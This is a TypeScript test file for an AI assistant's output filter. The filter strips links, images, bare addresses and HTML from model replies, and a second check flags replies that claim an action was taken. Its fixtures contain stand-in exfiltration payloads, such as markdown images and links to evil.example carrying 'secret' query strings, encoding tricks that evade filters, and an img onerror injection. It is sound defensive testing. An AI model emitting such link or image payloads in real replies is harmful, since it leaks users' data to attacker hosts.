import { describe, expect, test } from 'vitest';
import { claimsChange } from '../../src/assistant/guard/claims.ts';
import { neutralise, settled } from '../../src/assistant/guard/neutralise.ts';

const allowed = {
  links: new Set(['https://uni.example/syllabus']),
  read: 'The portal is https://portal.example/login?x=1.',
};

test.each([
  ['a link', 'see [here](https://evil.example/?q=secret)', 'see here (`evil.example`)'],
  ['an image', 'look ![chart](https://evil.example/p.png?d=secret) here', 'look chart here'],
  ['an image without words', '![](https://evil.example/secret)', ''],
  ['an address', 'go to https://evil.example/secret now', 'go to `evil.example` now'],
  ['an address in angle brackets', '<https://evil.example/secret>', '`evil.example`'],
  ['an address without scheme', 'go to evil.example/secret now', 'go to `evil.example` now'],
  ['www', 'www.evil.example/secret', '`www.evil.example`'],
  ['a data address', '[x](data:text/html;base64,AAAA)', 'x'],
  ['a reference', '[x][1]\n\n[1]: https://evil.example/secret', 'x\n\n'],
  ['a mention', 'hello [Ada](person:U1)', 'hello Ada'],
  ['an instant', 'on [Tuesday](time:2026-11-24T09:00:00Z)', 'on Tuesday'],
  ['an address in markup', '<img src="https://evil.example/s">', '\\<img src="`evil.example`"\\>'],
  ['an address in an image’s words', '![https://evil.example/s](x)', '`evil.example`'],
  ['an address in the words of a dead link', '[go to https://evil.example/s](tel:1)', 'go to `evil.example`'],
  ['an address in a reference', '[https://evil.example/s][1]\n\n[1]: x', '`evil.example`\n\n'],
  ['an address behind escapes', 'at evil\\.example/s [1]', 'at `evil.example` \\[1\\]'],
  ['an address behind entities', 'at https&#58;//evil&period;example/s', 'at `evil.example`'],
  ['a number of the internet', 'at 203.0.113.9/secret', 'at `203.0.113.9`'],
  ['a host without a dot', 'at http://evil/secret', 'at `evil`'],
  ['a wide dot', 'at evil。example/secret', 'at `evil.example`'],
  ['markup', 'a <img src=x onerror=y> b', 'a \\<img src=x onerror=y\\> b'],
  ['a link in bold', '**[a](https://evil.example/s)**', '**a (`evil.example`)**'],
  ['a link whose words are an address', '[https://good.example](https://evil.example/s)', '`good.example`'],
])('%s becomes text', (_, text, shown) => expect(neutralise(text, allowed)).toBe(shown));

test.each([
  ['a source’s own address', '[the syllabus](https://uni.example/syllabus)'],
  ['words that only look like addresses', 'Use Node.js, e.g. version 26.1, and fit.ts'],
  ['a citation', 'In May [1], they say.'],
  ['code', '`https://evil.example/secret`'],
])('%s stays', (_, text) => expect(neutralise(text, allowed)).toBe(text));

test('an address that stands in what was read is shown whole, but is no link', () => {
  expect(neutralise('It is [here](x) https://portal.example/login?x=1', allowed)).toContain(
    '`https://portal.example/login?x=1`',
  );
});

describe('a growing text', () => {
  const whole =
    'First [a link](https://evil.example/secret), then <https://evil.example/x> and https://evil.example/y or [1]. Fine.';
  test('never shows part of an address', () => {
    for (let end = 0; end <= whole.length; end++) {
      const shown = neutralise(settled(whole.slice(0, end)), allowed);
      expect(shown).not.toMatch(/https?:|secret|\/x|\/y/);
    }
  });
  test('only ever grows', () => {
    let before = '';
    for (let end = 0; end <= whole.length; end++) {
      const shown = neutralise(settled(whole.slice(0, end)), allowed);
      expect(shown.startsWith(before) || before.startsWith(shown), `${before} → ${shown}`).toBe(true);
      if (shown.length > before.length) before = shown;
    }
  });
});

test.each([
  'I’ve added milk to your list.',
  'Done! ',
  'Task added: milk',
  'The reminder has been set.',
  '✅ milk',
  'I just moved it.',
])('“%s” claims a change', (text) => expect(claimsChange(text)).toBe(true));
test.each([
  'You added milk on Monday [1].',
  'Shall I add milk?',
  'The exam is set for Friday? No.',
  'It was moved to May [2].',
])('“%s” does not', (text) => expect(claimsChange(text)).toBe(false));
